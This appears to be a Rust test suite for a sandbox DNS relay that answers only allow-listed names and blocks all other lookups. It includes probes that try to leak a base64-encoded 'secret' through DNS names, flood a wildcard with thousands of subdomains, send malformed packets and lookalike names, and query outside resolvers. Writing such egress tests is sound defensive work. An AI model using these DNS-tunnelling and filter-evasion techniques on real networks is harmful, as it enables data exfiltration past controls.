//! DNS queries of the body: which are answered, and with what. No query is forwarded.

use super::runs::allow;

const LIST: &[&str] = &["api.openai.com", "*.anthropic.com"];

on_both_captures! {
    /// Case 1.
    fn an_unlisted_name_does_not_exist_and_is_not_looked_up_outside(setting) {
        let seen = setting.run(LIST, "
say('library', resolve(unique + '.evil.example'))
say('message', ask(unique + '.other.example'))
say('message', ask(unique + '.other.example'))");
        seen.assert_said("library: no such name
            message: no such name
            message: no such name");
        let unique = &setting.unique;
        // The C library queries both families.
        seen.assert_denied(&[
            &format!("dns name-not-allowed {unique}.evil.example x2"),
            &format!("dns name-not-allowed {unique}.other.example x2"),
        ]);
        for name in ["evil", "other"] {
            seen.assert_told(&format!("{unique}.{name}.example"), "not in network.egress");
        }
        let log = setting.outside.log();
        assert_eq!(log.questions_for(&format!("{unique}.evil.example")), 0);
        assert_eq!(log.questions_for(&format!("{unique}.other.example")), 0);
    }

    /// Cases 2 and 8, H-10: names carry no data outside, for every record type.
    fn every_type_of_an_unknown_name_does_not_exist_and_of_an_allowed_one_is_empty(setting) {
        let seen = setting.run(LIST, "
for kind in 16, 15, 255, 10, 28, 65, 64, 5, 6, 33, 257:
    say(kind, ask('c2VjcmV0.' + unique + '.example', kind), '/', ask('api.openai.com', kind))
say('chaos', send_question(question('api.openai.com', 1, name_class=3)))");
        let kinds = [16, 15, 255, 10, 28, 65, 64, 5, 6, 33, 257];
        let mut said: Vec<String> =
            kinds.iter().map(|kind| format!("{kind}: no such name / ok")).collect();
        said.push("chaos: ok".to_owned());
        seen.assert_said(&said.join("\n"));
        let unique = &setting.unique;
        seen.assert_denied(&[&format!("dns name-not-allowed c2vjcmv0.{unique}.example x11")]);
        let log = setting.outside.log();
        assert_eq!(log.questions_for(&format!("{unique}.example")), 0);
    }

    /// Case 3, H-02.
    fn a_query_to_any_server_is_answered_by_the_relay_and_not_forwarded(setting) {
        let seen = setting.run(LIST, "
first = ask('api.openai.com')
say('ours', first.startswith('ok ' + SYNTHETIC))
for server in '8.8.8.8', '169.254.169.253', '2001:4860:4860::8888', '10.1.2.3', '198.51.100.2', '198.18.77.7':
    say(server, ask('api.openai.com', server=server) == first, ask(unique + '.evil.example', server=server))");
        seen.assert_said("ours: True
            8.8.8.8: True no such name
            169.254.169.253: True no such name
            2001:4860:4860::8888: True no such name
            10.1.2.3: True no such name
            198.51.100.2: True no such name
            198.18.77.7: True no such name");
        let unique = &setting.unique;
        seen.assert_denied(&[&format!("dns name-not-allowed {unique}.evil.example x6")]);
        let log = setting.outside.log();
        for server in ["8.8.8.8", "169.254.169.253", "2001:4860:4860::8888", "10.1.2.3"] {
            assert_eq!(log.packets_to(server), [""; 0], "{server}");
        }
        assert_eq!(log.questions_for(&format!("{unique}.evil.example")), 0);
    }

    /// Case 4.
    fn questions_over_a_connection_are_answered_alike(setting) {
        let seen = setting.run(LIST, "
def framed(message):
    return struct.pack('!H', len(message)) + message
for server in '198.18.0.1', '8.8.4.4', '2001:4860:4860::8844':
    with socket.create_connection((server, 53), 20) as asker:
        stream = asker.makefile('rb')
        both = framed(question('api.openai.com')) + framed(question(unique + '.evil.example'))
        for byte in both:
            asker.sendall(bytes([byte]))
        for _ in range(2):
            length = struct.unpack('!H', stream.read(2))[0]
            say(server, read_answer(stream.read(length)).split(' 198')[0])
        # Longer than what is read: the connection ends, the server does not.
        asker.sendall(b'\\xff\\xff' + bytes(65535))
        try:
            say(server, 'end', len(stream.read()))
        except OSError as error:
            say(server, told(error))
say('after', ask('api.openai.com')[:2])");
        let mut said = String::new();
        for server in ["198.18.0.1", "8.8.4.4", "2001:4860:4860::8844"] {
            said.push_str(&format!("{server}: ok\n{server}: no such name\n{server}: reset\n"));
        }
        said.push_str("after: ok");
        seen.assert_said(&said);
        let unique = &setting.unique;
        seen.assert_denied(&[&format!("dns name-not-allowed {unique}.evil.example x3")]);
        let log = setting.outside.log();
        assert_eq!(log.packets_to("8.8.4.4"), [""; 0]);
    }

    /// Case 5: names could carry data to a server that answers all of them.
    fn names_under_a_wildcard_are_capped_and_the_rest_is_one_denial(setting) {
        let seen = setting.run(LIST, "
answers = {}
with socket.create_connection(('198.18.0.1', 53), 20) as asker:
    stream = asker.makefile('rb')
    for number in range(5000):
        message = question(f'{unique}x{number}.anthropic.com')
        asker.sendall(struct.pack('!H', len(message)) + message)
        length = struct.unpack('!H', stream.read(2))[0]
        answer = read_answer(stream.read(length))
        answer = 'an address' if SYNTHETIC in answer else answer
        answers[answer] = answers.get(answer, 0) + 1
say('addresses', answers.pop('an address'))
say('no addresses', sum(answers.values()))
say('otherwise', *sorted(set(answers) - {'failed', 'no such name'}))
time.sleep(1)
say('known ones', ask(unique + 'x7.anthropic.com')[:2])");
        seen.assert_said("addresses: 64
            no addresses: 4936
            otherwise:
            known ones: ok");
        seen.assert_denied(&["dns limit *.anthropic.com x4936"]);
        let log = setting.outside.log();
        assert_eq!(log.questions_for("anthropic.com"), log.questions_for("a.anthropic.com"));
    }

    /// Case 6.
    fn malformed_queries_are_refused_and_the_next_one_is_answered(setting) {
        let seen = setting.run(LIST, r"
header = struct.pack('!HHHHHH', 7, 0x0100, 1, 0, 0, 0)
end = struct.pack('!HH', 1, 1)
good = question('api.openai.com')
for label, message in (
    ('a name that points at itself', header + b'\xc0\x0c' + end),
    ('two names that point at each other', header + b'\1a\xc0\x10\1b\xc0\x0c' + end),
    ('two questions', good[:4] + b'\0\2' + good[6:] + good[12:]),
    ('no question', good[:4] + b'\0\0' + good[6:]),
    ('a label without an end', good[:20]),
    ('a label of 64 bytes', header + b'\x40' + bytes(64) + b'\0' + end),
    ('a name of 400 bytes', header + (b'\x27' + b'a' * 39) * 10 + b'\0' + end),
    ('an update', good[:2] + b'\x28\0' + good[4:]),
    ('a NUL', question([b'api.openai.com\0', b'evil', b'example'])),
    ('a NUL that ends the name', question([b'api', b'openai', b'com\0', b'evil', b'example'])),
    ('a dot inside a label', question([b'api.openai.com'])),
    ('a slash', question([b'a/b', b'anthropic', b'com'])),
    ('a space', question([b'a b', b'anthropic', b'com'])),
    ('bytes beyond ASCII', question(['\u0430pi'.encode(), b'openai', b'com'])),
    ('the root', question([])),
):
    say(label, send_question(message))
for label, message in (('nothing', b''), ('eleven bytes', good[:11]), ('an answer', good[:2] + b'\x81\x80' + good[4:])):
    say(label, send_question(message, patience=0.3))
say('a good one', send_question(good)[:2])");
        seen.assert_said("a name that points at itself: malformed
            two names that point at each other: malformed
            two questions: malformed
            no question: malformed
            a label without an end: malformed
            a label of 64 bytes: malformed
            a name of 400 bytes: malformed
            an update: not implemented
            a NUL: no such name
            a NUL that ends the name: no such name
            a dot inside a label: no such name
            a slash: no such name
            a space: no such name
            bytes beyond ASCII: no such name
            the root: no such name
            nothing: silence
            eleven bytes: silence
            an answer: silence
            a good one: ok");
        seen.assert_denied(&[
            "dns name-not-allowed . x1",
            r"dns name-not-allowed a\x20b.anthropic.com x1",
            "dns name-not-allowed a/b.anthropic.com x1",
            r"dns name-not-allowed api\x2eopenai\x2ecom x1",
            r"dns name-not-allowed api\x2eopenai\x2ecom\x00.evil.example x1",
            r"dns name-not-allowed api.openai.com\x00.evil.example x1",
            r"dns name-not-allowed \xd0\xb0pi.openai.com x1",
        ]);
    }

    /// Case 7, H-08.
    fn names_match_whole_labels_whatever_their_case(setting) {
        let seen = setting.run(LIST, r"
one = ask('api.openai.com')
for name in ('API.OpenAI.com', 'api.openai.com.'[:-1]):
    say(name, ask(name) == one)
for name in ('a.anthropic.com', 'a.b.anthropic.com', 'A.ANTHROPIC.COM', 'xn--pi-6kc.anthropic.com'):
    say(name, ask(name)[:2])
for name in ('api.openai.com.evil.com', 'xapi.openai.com', 'openai.com', 'x.api.openai.com', 'anthropic.com',
             'evilanthropic.com', 'a.anthropic.com.evil.com', 'a.anthropic.co', 'com', 'xn--pi-6kc.openai.com',
             'api-openai.com', 'api.openai.c0m'):
    say(name, ask(name))
say('a dot at the end', resolve('api.openai.com.') == one.split()[1])
say('another alphabet', resolve('\u0430pi.openai.com'))");
        seen.assert_said("API.OpenAI.com: True
            api.openai.com: True
            a.anthropic.com: ok
            a.b.anthropic.com: ok
            A.ANTHROPIC.COM: ok
            xn--pi-6kc.anthropic.com: ok
            api.openai.com.evil.com: no such name
            xapi.openai.com: no such name
            openai.com: no such name
            x.api.openai.com: no such name
            anthropic.com: no such name
            evilanthropic.com: no such name
            a.anthropic.com.evil.com: no such name
            a.anthropic.co: no such name
            com: no such name
            xn--pi-6kc.openai.com: no such name
            api-openai.com: no such name
            api.openai.c0m: no such name
            a dot at the end: True
            another alphabet: no such name");
        seen.assert_denied(&[
            "dns name-not-allowed api.openai.com.evil.com x1",
            "dns name-not-allowed xapi.openai.com x1",
            "dns name-not-allowed openai.com x1",
            "dns name-not-allowed x.api.openai.com x1",
            "dns name-not-allowed anthropic.com x1",
            "dns name-not-allowed evilanthropic.com x1",
            "dns name-not-allowed a.anthropic.com.evil.com x1",
            "dns name-not-allowed a.anthropic.co x1",
            "dns name-not-allowed com x1",
            "dns name-not-allowed xn--pi-6kc.openai.com x3",
            "dns name-not-allowed api-openai.com x1",
            "dns name-not-allowed api.openai.c0m x1",
        ]);
    }

    /// The five lines at the end, and the line that counts the rest.
    fn at_most_five_denials_are_printed_at_the_end(setting) {
        let mut flags = allow(LIST);
        flags.push("--report-denials");
        let seen = setting.run_with(&flags, "
for number in range(8):
    for _ in range(8 - number):
        ask(f'{unique}x{number}.example')");
        let lines: Vec<&str> = seen.done.stderr.lines().collect();
        assert_eq!(lines.len(), 6, "{lines:#?}");
        for (number, line) in lines[..5].iter().enumerate() {
            let name = format!("{}x{number}.example", setting.unique);
            assert!(line.starts_with(&format!("runner: denied egress to {name} (")), "{line}");
        }
        assert_eq!(lines[5], "runner: … 3 more: see --json");
        assert_eq!(seen.denials.len(), 8);
    }
}
